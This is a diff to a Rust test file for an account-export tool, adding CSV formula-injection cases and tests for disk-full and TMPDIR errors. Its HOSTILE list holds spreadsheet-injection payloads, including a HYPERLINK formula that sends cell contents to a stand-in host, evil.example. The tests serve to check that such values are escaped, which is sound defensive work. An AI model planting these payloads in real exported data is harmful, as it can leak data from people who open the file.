@@ -221,7 +221,7 @@ fn an_earlier_run_is_exported_as_it_was() {
 }
 
 /// Names that a spreadsheet would take for formulas.
-const HOSTILE: [&str; 7] = [
+const HOSTILE: [&str; 11] = [
     "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
     "+1+1",
     "-2+3",
@@ -229,6 +229,11 @@ const HOSTILE: [&str; 7] = [
     "\t=1+1",
     "\r=1+1",
     "＝1+1",
+    "  =1+1",
+    // Where `;` separates cells.
+    "Ada;=1+1",
+    "Ada; \u{a0}＝1+1",
+    "Ada\";\"=1+1",
 ];
 
 fn hostile() -> Scene {
@@ -236,7 +241,7 @@ fn hostile() -> Scene {
     let accounts: Vec<_> = ids
         .iter()
         .zip(HOSTILE)
-        .map(|(id, name)| (id.as_str(), name, "active", None))
+        .map(|(id, name)| (id.as_str(), name, "pending", None))
         .collect();
     let scene = Scene::with(&accounts);
     scene.sql(
@@ -274,6 +279,10 @@ fn formulas_in_names_become_text_in_csv_unless_programs_ask_for_them() {
             "'\\u{9}=1+1",
             "'\\u{d}=1+1",
             "'＝1+1",
+            "'  =1+1",
+            "Ada;'=1+1",
+            "Ada; \u{a0}'＝1+1",
+            "Ada\";\"'=1+1",
         ]
     );
     let team = |folder: &Path| {
@@ -291,14 +300,24 @@ fn formulas_in_names_become_text_in_csv_unless_programs_ask_for_them() {
         ["report", "inactive"],
     ] {
         let told = scene.told(&[&args[..], &["--format", "csv"]].concat());
-        let mut reader = csv::Reader::from_reader(told.as_bytes());
-        for row in reader.records() {
-            for cell in &row.expect("a row") {
-                assert!(
-                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝']),
-                    "{args:?}: {cell}"
-                );
+        // Whichever of them the reader takes for the end of a cell.
+        for separator in [b',', b';'] {
+            let mut reader = csv::ReaderBuilder::new()
+                .delimiter(separator)
+                .flexible(true)
+                .from_reader(told.as_bytes());
+            let mut hostile = 0;
+            for row in reader.records() {
+                for cell in &row.expect("a row") {
+                    let begins = cell.trim_start_matches([' ', '\u{a0}', '"']);
+                    assert!(
+                        !begins.starts_with(['=', '+', '-', '@', '\t', '\r', '＝']),
+                        "{args:?}: {cell}"
+                    );
+                    hostile += usize::from(cell.contains("=1+1"));
+                }
             }
+            assert!(hostile >= 6, "{args:?}: they are in it");
         }
     }
 }
@@ -328,8 +347,8 @@ fn formulas_in_names_are_texts_in_a_workbook_and_stay_so() {
                 .filter(|cell| cell.contains("s=\"2\" t=\"inlineStr\""))
                 .count();
         }
-        // Seven names, and that of the team.
-        assert_eq!(stay_texts, HOSTILE.len() + 1);
+        // Eight names, and that of the team: a cell of a workbook ends nowhere else.
+        assert_eq!(stay_texts, 8 + 1);
         let names: Vec<String> = from_sheet(&file, 1)
             .into_iter()
             .skip(1)
@@ -393,9 +412,11 @@ fn where_there_is_no_room_everything_stays_as_it_was() {
     // More than a buffer of the formats that write in bits.
     scene.batch(
         "WITH RECURSIVE n(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM n WHERE n < 2000)
-         INSERT INTO accounts (tenant, id, from_run, email, display_name, status, kind, attributes)
-         SELECT 1, 'X' || n, 1, hex(randomblob(40)), hex(randomblob(40)), 'active', 'user', '{}' FROM n",
+         INSERT INTO grants (tenant, account, entitlement_type, resource_type, resource, entitlement, from_run)
+         SELECT 1, 'PADA', 'team-membership', 'team', hex(randomblob(40)), hex(randomblob(40)), 1 FROM n",
     );
+    // In a folder, one of the first files: with a later one in which there is no
+    // room.
     for (format, output, kept) in [
         ("csv", "csv", "csv/accounts.csv"),
         ("json", "all.json", "all.json"),
@@ -410,10 +431,16 @@ fn where_there_is_no_room_everything_stays_as_it_was() {
         let (code, said) = with_little_room(&scene, 100, &args);
         assert_eq!(code, Some(2), "{format}: {said}");
         assert_eq!(said.lines().count(), 1, "{format}: {said}");
-        assert!(
-            said.contains("can't be written") && said.contains("; hint: "),
-            "{said}"
-        );
+        let (cause, hint) = match format {
+            // What the library said.
+            "xlsx" => (
+                "can't be made: ",
+                "; hint: rows wait in the folder for temporary files, which `TMPDIR` names",
+            ),
+            _ => ("can't be written: ", "; hint: "),
+        };
+        assert!(said.contains(cause) && said.contains(hint), "{said}");
+        assert!(said.contains("File too large"), "{said}");
         assert!(fs::read(&kept).expect("it is there") == before, "{format}");
         // Nothing half-written is left behind.
         let folder = kept.parent().expect("a folder");
@@ -424,4 +451,53 @@ fn where_there_is_no_room_everything_stays_as_it_was() {
         let left: Vec<String> = names.filter(|name| name.starts_with(".tmp")).collect();
         assert_eq!(left, Vec::<String>::new(), "{format}");
     }
+}
+
+#[test]
+fn a_workbook_says_what_it_is_of_and_what_is_missing() {
+    let scene = five();
+    scene.batch(
+        r#"UPDATE runs SET notices = '[{"code":"plan-lacks-teams","message":"=teams are left out","hint":"upgrade"}]',
+           findings = '[{"check":"shrinkage","severity":"error","message":"40 % are gone","hint":"look","examples":[]}]',
+           accepted_by = 'ada' WHERE id = 2"#,
+    );
+    let file = scene.beside("all.xlsx");
+    scene.told(&["export", "--format", "xlsx", "--output", text(&file)]);
+    let names = part(&file, "xl/workbook.xml");
+    assert!(names.contains("name=\"run\""), "{names}");
+    let told = from_sheet(&file, KINDS.len() + 1);
+    for line in [
+        ["tenant", "acme"],
+        ["run", "2"],
+        ["as of", "2026-06-30T12:00:00Z"],
+        ["read until", "2026-06-30T12:05:00Z"],
+        ["not all is known", "=teams are left out"],
+        ["hint", "upgrade"],
+        ["not plausible", "40 % are gone"],
+        ["accepted by", "ada"],
+    ] {
+        assert!(
+            told.iter().any(|found| *found == line),
+            "{line:?}: {told:?}"
+        );
+    }
+}
+
+#[test]
+fn where_there_are_no_temporary_files_a_workbook_says_so() {
+    let scene = five();
+    let file = scene.beside("all.xlsx");
+    let output = harness()
+        .args(["export", "--format", "xlsx", "--output", text(&file)])
+        .args(["--store", text(&scene.path())])
+        .env("TMPDIR", scene.beside("nowhere"))
+        .output()
+        .expect("it runs");
+    let said = String::from_utf8_lossy(&output.stderr).into_owned();
+    assert_eq!(output.status.code(), Some(2), "{said}");
+    assert!(
+        said.contains("nowhere") && said.contains("`TMPDIR`"),
+        "{said}"
+    );
+    assert!(!file.exists());
 }
